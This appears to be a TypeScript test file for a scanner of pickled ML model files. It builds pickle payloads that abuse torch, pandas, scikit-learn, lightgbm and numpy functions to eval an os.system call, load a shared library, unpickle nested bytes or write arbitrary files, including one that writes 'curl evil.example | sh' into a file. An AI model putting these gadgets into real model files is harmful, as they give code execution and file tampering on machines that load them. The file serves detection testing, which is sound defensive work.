import { b, binunicode } from './pickle-bytes.js';
import type { UnseenCase } from './unseen-runner.js';

/** `module.name(*args)` by GLOBAL and REDUCE, protocol 2, each argument a string. */
const call = (module: string, name: string, ...args: string[]): Buffer =>
  Buffer.concat([b(`\x80\x02c${module}\n${name}\n(`), ...args.map(binunicode), b('tR.')]);

/** `module` + `name` by STACK_GLOBAL (protocol 4, where find_class walks a dotted name). */
const stackGlobal = (module: string, name: string): Buffer =>
  Buffer.concat([binunicode(module), binunicode(name), b('\x93')]);

/** A torch.autograd.profiler_util object made as pickle makes one: NEWOBJ, then BUILD with `state`. */
const profilerObject = (cls: string, state: Buffer): Buffer =>
  Buffer.concat([stackGlobal('torch.autograd.profiler_util', cls), b(')\x81'), state, b('b')]);

/**
 * `EventList([FunctionEvent(trace_name=…)]).export_chrome_trace(path)`: the event's name holds the lines to write.
 * Debian's torch 1.13 unpickled it and wrote them into the file, unescaped.
 */
const CHROME_TRACE = Buffer.concat([
  b('\x80\x04'),
  stackGlobal('torch.autograd.profiler_util', 'EventList.export_chrome_trace'),
  stackGlobal('torch.autograd.profiler_util', 'EventList'),
  b(')\x81('),
  profilerObject(
    'FunctionEvent',
    Buffer.concat([
      b('}('),
      binunicode('trace_name'),
      binunicode('x\ncurl evil.example | sh\n'),
      binunicode('time_range'),
      profilerObject(
        'Interval',
        Buffer.concat([b('}('), binunicode('start'), b('K\x00'), binunicode('end'), b('K\x01u')]),
      ),
      binunicode('kernels'),
      b(']'),
      binunicode('is_remote'),
      b('\x89'),
      binunicode('thread'),
      b('K\x00u'),
    ]),
  ),
  b('e'),
  binunicode('/tmp/x'),
  b('\x86R.'),
]);

/** `pandas.core.frame.DataFrame({'a': ['x']})`, as a REDUCE of the (allowlisted) class. */
const DATA_FRAME = Buffer.concat([
  b('cpandas.core.frame\nDataFrame\n}'),
  binunicode('a'),
  b(']'),
  binunicode('x'),
  b('as\x85R'),
]);

const MEMMAP = b('cnumpy\nmemmap\n');
/** numpy.memmap's other positional arguments after the path: dtype, mode w+, offset 0, shape 4. */
const MEMMAP_REST = Buffer.concat([binunicode('u1'), binunicode('w+'), b('K\x00K\x04')]);

/** `pandas.core.series.Series(['/tmp/x'])`. */
const SERIES = Buffer.concat([b('cpandas.core.series\nSeries\n]'), binunicode('/tmp/x'), b('a\x85R')]);

/**
 * A FunctionTransformer made as pickle makes one (NEWOBJ, BUILD) with `func` numpy.memmap and keyword arguments
 * that create a file; with `method`, that method reached through the class is then called on it with a path.
 */
const FUNCTION_TRANSFORMER = (method: string | undefined): Buffer => {
  const module = 'sklearn.preprocessing._function_transformer';
  const built = Buffer.concat([
    stackGlobal(module, 'FunctionTransformer'),
    b(')\x81}('),
    binunicode('func'),
    MEMMAP,
    binunicode('kw_args'),
    b('}('),
    ...['mode', 'w+', 'dtype', 'u1', 'shape'].map(binunicode),
    b('K\x04u'),
    binunicode('validate'),
    b('\x89ub'),
  ]);
  if (method === undefined) return built;
  return Buffer.concat([stackGlobal(module, method), built, binunicode('/tmp/x'), b('\x86R')]);
};

/**
 * Functions and methods of the libraries models are saved with that run code, load native code, unpickle, or
 * write a file when the unpickler calls them. An unknown name of such a library is only a warning (CPI002), so
 * before these cases each passed the default gate.
 */
export const ROUND19_LIBRARY_GADGET_CASES: readonly UnseenCase[] = [
  {
    name: "torch.utils._sympy's FloorDiv (a sympy.Function) called on a string: sympy parses, i.e. evals, it",
    loader: 'pickle.load (sympy Application.__new__ sympifies its arguments; sympy parse_expr evals the string)',
    files: { 'model.pkl': call('torch.utils._sympy.functions', 'FloorDiv', "__import__('os').system('id')", '1') },
    want: ['CPI001:error'],
  },
  {
    name: 'torch._export.aot_load(path, "cpu") dlopens the shared library a model folder ships',
    loader: 'pickle.load (torch/_export/__init__.py aot_load: AOTIModelContainerRunnerCpu(so_path))',
    files: { 'model.pkl': call('torch._export', 'aot_load', './model.so', 'cpu') },
    want: ['CPI001:error'],
  },
  {
    name: "torch._logging's _init_logs(path) opens a logging.FileHandler on the path",
    loader: 'pickle.load (torch/_logging/_internal.py _init_logs: logging.FileHandler(log_file_name))',
    files: { 'model.pkl': call('torch._logging._internal', '_init_logs', '/tmp/x') },
    want: ['CPI001:error'],
  },
  {
    name: "a torch config module's load_config(bytes) unpickles the bytes",
    loader: 'pickle.load (torch/utils/_config_module.py ConfigModule.load_config: pickle.loads)',
    files: {
      'model.pkl': Buffer.concat([b('\x80\x02ctorch._functorch.config\nload_config\nC\x03abc\x85R.')]),
    },
    want: ['CPI001:error'],
  },
  {
    name: 'pandas.show_versions(path) writes its JSON report over the path',
    loader: 'pickle.load (pandas/util/_print_versions.py show_versions: open(as_json, "w"))',
    files: { 'model.pkl': call('pandas', 'show_versions', '/tmp/x') },
    want: ['CPI001:error'],
  },
  {
    name: "pandas._testing's write_to_compressed writes the pickle's data to any path",
    loader: 'pickle.load (pandas/_testing/_io.py write_to_compressed: gzip.GzipFile(path, "wb").write(data))',
    files: { 'model.pkl': call('pandas._testing._io', 'write_to_compressed', 'gzip', '/tmp/x', 'data') },
    want: ['CPI001:error'],
  },
  {
    name: "scikit-learn's check_memory(path), kept by sklearn.pipeline, makes a joblib.Memory there (mkdir)",
    loader: 'pickle.load (sklearn/utils/validation.py check_memory: joblib.Memory(location=memory))',
    files: { 'model.pkl': call('sklearn.pipeline', 'check_memory', '/tmp/d') },
    want: ['CPI001:error'],
  },
  {
    name: "torch's EventList.export_chrome_trace writes a BUILD-given event name's lines into any file",
    loader: 'pickle.load (torch/autograd/profiler_util.py EventList.export_chrome_trace: open(path, "w"))',
    files: { 'model.pkl': CHROME_TRACE },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: "pandas' DataFrame.to_string(frame, path) writes the frame's text over the path",
    loader: 'pickle.load (pandas/core/frame.py DataFrame.to_string: save_to_buffer opens a path buf "w")',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x04'),
        stackGlobal('pandas.core.frame', 'DataFrame.to_string'),
        DATA_FRAME,
        binunicode('/tmp/x'),
        b('\x86R.'),
      ]),
    },
    want: ['CPI001:error'],
  },
  {
    name: "lightgbm's Booster.save_model(booster, path) writes the model over the path",
    loader: 'pickle.load (lightgbm/basic.py Booster.save_model: LGBM_BoosterSaveModel(handle, …, filename))',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x04'),
        stackGlobal('lightgbm.basic', 'Booster.save_model'),
        stackGlobal('lightgbm.basic', 'Booster'),
        b(')\x81'),
        binunicode('/tmp/x'),
        b('\x86R.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  // Helpers that call a callable they are given: numpy.memmap there is called, not only referenced. Debian's numpy
  // 1.24 and pandas 1.5 created the file (4 zero bytes) from each; chainproof said CPI002 or CPI006 warnings only.
  {
    name: 'numpy.frompyfunc(numpy.memmap, 5, 1) called with a path and mode w+',
    loader: 'pickle.load (numpy frompyfunc: the ufunc calls the function on each set of items)',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x02cnumpy.core._multiarray_umath\nfrompyfunc\n('),
        MEMMAP,
        b('K\x05K\x01tR('),
        binunicode('/tmp/x'),
        MEMMAP_REST,
        b('tR.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning', 'CPI006:error'],
  },
  {
    name: "torch's tree_map(numpy.memmap, [path], ['u1'], ['w+'], [0], [4]): one call per set of leaves",
    loader: 'pickle.load (torch/utils/_pytree.py tree_map: map(func, *flat_args))',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x02ctorch.utils._pytree\ntree_map\n('),
        MEMMAP,
        ...['/tmp/x', 'u1', 'w+'].map((s) => Buffer.concat([b(']'), binunicode(s), b('a')])),
        b(']K\x00a]K\x04atR.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: "pandas' pipe(path, numpy.memmap, 'u1', 'w+', 0, 4)",
    loader: 'pickle.load (pandas/core/common.py pipe: func(obj, *args))',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x02cpandas.core.common\npipe\n('),
        binunicode('/tmp/x'),
        MEMMAP,
        MEMMAP_REST,
        b('tR.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: "DataFrame.pipe(frame, (numpy.memmap, 'order'), path, 'u1', 'w+', 0, 4): the pair form",
    loader: 'pickle.load (pandas/core/generic.py NDFrame.pipe → common.pipe: func(*args, order=frame))',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x04'),
        stackGlobal('pandas', 'DataFrame.pipe'),
        b('('),
        DATA_FRAME,
        MEMMAP,
        binunicode('order'),
        b('\x86'),
        binunicode('/tmp/x'),
        MEMMAP_REST,
        b('tR.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: "Series.apply(Series([path]), numpy.memmap, True, ('u1', 'w+', 0, 4))",
    loader: 'pickle.load (pandas/core/series.py Series.apply: func(item, *args) for each item)',
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x04'),
        stackGlobal('pandas.core.series', 'Series.apply'),
        b('('),
        SERIES,
        MEMMAP,
        b('\x88('),
        MEMMAP_REST,
        b('ttR.'),
      ]),
    },
    // Series.apply is judged by its name too (danger.ts PANDAS_STRING_DISPATCH), not only as an unknown name
    want: ['CPI001:error'],
  },
  {
    name: 'FunctionTransformer.transform(<func=numpy.memmap, kw_args={mode: w+…}>, path): the method calls self.func',
    loader: 'pickle.load (sklearn/preprocessing/_function_transformer.py transform: self.func(X, **self.kw_args))',
    files: {
      'model.pkl': Buffer.concat([b('\x80\x04'), FUNCTION_TRANSFORMER('FunctionTransformer.transform'), b('.')]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: 'Pipeline.transform(<steps=[(ft, that FunctionTransformer)]>, path): a step held in the state is called',
    loader: "pickle.load (sklearn/pipeline.py Pipeline.transform: each step's transform(Xt))",
    files: {
      'model.pkl': Buffer.concat([
        b('\x80\x04'),
        stackGlobal('sklearn.pipeline', 'Pipeline.transform'),
        stackGlobal('sklearn.pipeline', 'Pipeline'),
        b(')\x81}('),
        binunicode('steps'),
        b(']'),
        binunicode('ft'),
        FUNCTION_TRANSFORMER(undefined),
        b('\x86a'),
        binunicode('memory'),
        b('Nub'),
        binunicode('/tmp/x'),
        b('\x86R.'),
      ]),
    },
    want: ['CPI001:error', 'CPI002:warning'],
  },
  {
    name: 'control: the same FunctionTransformer, not called',
    loader: 'pickle.load (BaseEstimator.__setstate__ updates __dict__; nothing calls func)',
    files: { 'model.pkl': Buffer.concat([b('\x80\x04'), FUNCTION_TRANSFORMER(undefined), b('.')]) },
    want: [],
  },
  {
    name: 'control: a DataFrame alone',
    loader: 'pickle.load (DataFrame(dict) builds the frame)',
    files: { 'model.pkl': Buffer.concat([b('\x80\x02'), DATA_FRAME, b('.')]) },
    want: [],
  },
];
